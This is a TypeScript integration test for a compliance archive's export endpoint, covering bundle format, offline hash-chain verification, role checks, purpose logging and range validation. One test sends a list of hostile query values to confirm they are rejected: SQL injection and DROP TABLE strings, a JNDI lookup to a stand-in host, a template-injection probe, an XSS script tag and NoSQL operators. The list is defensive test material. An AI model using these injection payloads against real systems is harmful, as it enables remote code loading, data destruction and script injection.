/**
 * GET /v1/archive/export from a running archive, checked by the offline verifier exactly as a
 * regulator would run it: the bundle verifies, consecutive bundles tie on to each other, one
 * changed byte is named, and malformed ranges are refused with 400 without touching anything.
 */
import { Client } from 'pg';
import { TEST_DATABASE_URL } from '@complaints/testing';
import { complianceArchiveService } from '../../apps/compliance-archive/src/main';
import { archiveWriterRole } from '../../apps/compliance-archive/src/migrations';
import { GENESIS_HASH } from '../../apps/compliance-archive/src/archive/hash-chain';
import { Bundle, kafkaMessage, removeScratch, runVerifier, sampleEnvelopes, withOneByteChanged } from '../archive-verify/archive-fixtures';
import { ServiceUnderTest, startInProcess } from './services-in-process';

jest.setTimeout(120_000);

const EVENTS = 6;
const LIMIT = 4;

describe('compliance archive: export bundles verified offline', () => {
  let archive: ServiceUnderTest;
  let db: Client;
  let stored: { seq: number; canonical: string; prevHash: string; entryHash: string }[];
  const tokens: Record<string, string> = {};

  /** Every export states its purpose, like every other retrieval. */
  const PURPOSE = { 'x-retrieval-purpose': 'regulator-request', 'x-retrieval-reference': 'EXPORT-TEST' };
  const get = async (query: string, role: string | null = 'compliance-officer', purpose: Record<string, string> = PURPOSE) => {
    const res = await fetch(`${archive.baseUrl}/v1/archive/export${query}`, { headers: { ...purpose, ...(role ? { authorization: `Bearer ${tokens[role]}` } : {}) } });
    const text = await res.text();
    return { status: res.status, type: res.headers.get('content-type') ?? '', text, body: () => JSON.parse(text) as Bundle };
  };

  beforeAll(async () => {
    archive = await startInProcess(complianceArchiveService, { ARCHIVE_EXPORT_MAX_ENTRIES: String(LIMIT) });
    for (const role of ['compliance-officer', 'auditor', 'investigator', 'administrator']) tokens[role] = await archive.issuer.token(role as never);
    const topic = `${archive.schema}.complaints.intake.v1`;
    for (const [i, envelope] of sampleEnvelopes(EVENTS).entries()) {
      expect(await archive.running.transport.handleRecord(topic, 0, kafkaMessage(envelope, i))).toBe('handled');
    }
    db = new Client({ connectionString: TEST_DATABASE_URL });
    await db.connect();
    stored = (
      await db.query(`SELECT seq::int AS seq, canonical, prev_hash AS "prevHash", entry_hash AS "entryHash" FROM "${archive.schema}".archive_entries ORDER BY seq`)
    ).rows;
    expect(stored).toHaveLength(EVENTS);
  });

  afterAll(async () => {
    removeScratch();
    await archive?.stop();
    if (db && archive) await db.query(`DROP ROLE IF EXISTS "${archiveWriterRole(archive.schema)}"`);
    await db?.end();
  });

  it('exports a range as the bundle format, entries exactly as stored, to compliance officers only: auditors, who see personal data masked, are refused the unmaskable bundle', async () => {
    const officer = await get('?from=1&to=3');
    expect(officer.status).toBe(200);
    const bundle = officer.body();
    expect(bundle).toEqual({
      format: 'complaints-archive-bundle@1',
      exportedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      fromSeq: 1,
      toSeq: 3,
      anchorHash: GENESIS_HASH,
      entries: stored.slice(0, 3),
    });
    const auditor = await get('?from=1&to=3', 'auditor');
    expect({ status: auditor.status, type: auditor.type }).toEqual({ status: 403, type: expect.stringContaining('application/problem+json') });
  });

  it('the verifier accepts an exported bundle, and names the entry after one byte of it changes', async () => {
    const bundle = (await get('?from=1&to=4')).body();
    const ok = runVerifier(bundle);
    expect({ status: ok.status, first: ok.stdout.split('\n')[0] }).toEqual({ status: 0, first: `OK: 4 entries, seq 1..4, last hash ${stored[3].entryHash}` });

    const tampered = runVerifier(withOneByteChanged(bundle, 2));
    expect(tampered.status).toBe(1);
    expect(tampered.stdout).toMatch(/^FAILED: entry seq 3 \([a-z]+\.[a-z-]+ [0-9a-f-]{36}\): entry content does not match its hash/);

    // The file as the server sent it, not re-serialised: one byte flipped in the raw text.
    const raw = (await get('?from=1&to=4')).text;
    const at = raw.indexOf('"ticketNumber') + 2;
    const flipped = raw.slice(0, at) + raw[at].toUpperCase() + raw.slice(at + 1);
    expect(runVerifier(raw).status).toBe(0);
    expect(runVerifier(flipped)).toMatchObject({ status: 1, stdout: expect.stringMatching(/^FAILED: entry seq 1 .*entry content does not match its hash/) });
  });

  it('without a range the bundle stops at the limit; the next starts where it ended and ties on with --anchor', async () => {
    const first = (await get('')).body();
    expect({ from: first.fromSeq, to: first.toSeq, n: first.entries.length }).toEqual({ from: 1, to: LIMIT, n: LIMIT });
    const next = (await get(`?from=${LIMIT + 1}`)).body();
    expect({ from: next.fromSeq, to: next.toSeq, anchor: next.anchorHash }).toEqual({ from: LIMIT + 1, to: EVENTS, anchor: first.entries[LIMIT - 1].entryHash });

    const [head] = (await db.query(`SELECT entry_hash FROM "${archive.schema}".chain_head`)).rows;
    expect(runVerifier(first).status).toBe(0);
    const chained = runVerifier(next, ['--anchor', first.entries[LIMIT - 1].entryHash, '--last', head.entry_hash]);
    expect({ status: chained.status, out: chained.stdout }).toEqual({ status: 0, out: expect.stringContaining(`OK: 2 entries, seq ${LIMIT + 1}..${EVENTS}, last hash ${head.entry_hash}`) });
    expect(runVerifier(next, ['--anchor', first.entries[0].entryHash]).status).toBe(1);
  });

  it('answers ranges it cannot serve with a clear 4xx: beyond the archive 404, reversed or too large 400', async () => {
    for (const [query, status, detail] of [
      [`?from=${EVENTS + 1}`, 404, `the archive holds entries 1 to ${EVENTS}`],
      [`?from=${EVENTS - 1}&to=${EVENTS + 1}`, 404, `the archive holds entries 1 to ${EVENTS}`],
      ['?from=3&to=2', 400, 'to (2) is before from (3)'],
      [`?from=1&to=${LIMIT + 1}`, 400, `at most ${LIMIT} entries per bundle; export the archive in consecutive ranges`],
    ] as const) {
      const res = await get(query);
      expect({ query, status: res.status, type: res.type, detail: JSON.parse(res.text).detail }).toEqual({
        query,
        status,
        type: expect.stringContaining('application/problem+json'),
        detail,
      });
    }
  });

  it('refuses malformed and hostile from/to with 400 problem+json, and stores nothing', async () => {
    const before = await archive.rowCounts();
    const hostile = [
      '0', '-1', '+1', '01', '1.5', '1e3', '0x10', 'abc', '', ' 1', '1 ', '１２３', '٣',
      '99999999999999999999', '9'.repeat(400), "1' OR '1'='1", '1; DROP TABLE archive_entries', '1)--', '%00', 'null', 'undefined',
      '${jndi:ldap://evil.example/a}', '{{7*7}}', '<script>alert(1)</script>', '1\u200b', 'NaN', 'Infinity',
    ];
    const attempts: string[] = [];
    for (const value of hostile) {
      attempts.push(`?from=${encodeURIComponent(value)}`, `?to=${encodeURIComponent(value)}`, `?from=1&to=${encodeURIComponent(value)}`);
    }
    attempts.push('?from=1&from=2', '?from[a]=1', '?from[]=1', '?to[$gt]=1', '?From=1', '?limit=1000000', '?from=1&to=2&format=csv');
    const wrong: string[] = [];
    for (const query of attempts) {
      const res = await get(query);
      const problem = res.type.startsWith('application/problem+json') ? JSON.parse(res.text) : null;
      if (res.status !== 400 || problem?.status !== 400) wrong.push(`${query} -> ${res.status} ${res.text.slice(0, 160)}`);
    }
    expect(wrong).toEqual([]);
    expect(attempts.length).toBeGreaterThan(80);
    expect(await archive.rowCounts()).toEqual(before);
  });

  it('is only for compliance officers', async () => {
    expect((await get('?from=1&to=1', null)).status).toBe(401);
    expect((await get('?from=1&to=1', 'auditor')).status).toBe(403);
    expect((await get('?from=1&to=1', 'investigator')).status).toBe(403);
    expect((await get('?from=1&to=1', 'administrator')).status).toBe(403);
  });

  it('needs a stated purpose, and each export is on the retrieval log with its range and size', async () => {
    const refused = await get('?from=1&to=2', 'compliance-officer', {});
    expect(refused.status).toBe(400);
    expect(refused.type).toContain('application/problem+json');
    expect((await get('?from=2&to=3')).status).toBe(200);
    const res = await fetch(`${archive.baseUrl}/v1/archive/retrievals`, { headers: { authorization: `Bearer ${tokens.auditor}` } });
    const { retrievals } = (await res.json()) as { retrievals: { what: string; purpose: string; reference: string; complaintId: string | null; query?: { filter: unknown; hits: number } }[] };
    const exports = retrievals.filter((r) => r.what === 'GET /v1/archive/export');
    expect(exports[0]).toMatchObject({ purpose: 'regulator-request', reference: 'EXPORT-TEST', complaintId: null, query: { filter: { fromSeq: '2', toSeq: '3' }, hits: 2 } });
    // The refused request stated no purpose, so it read nothing and is not on the log.
    expect(exports.every((r) => r.purpose === 'regulator-request')).toBe(true);
  });
});
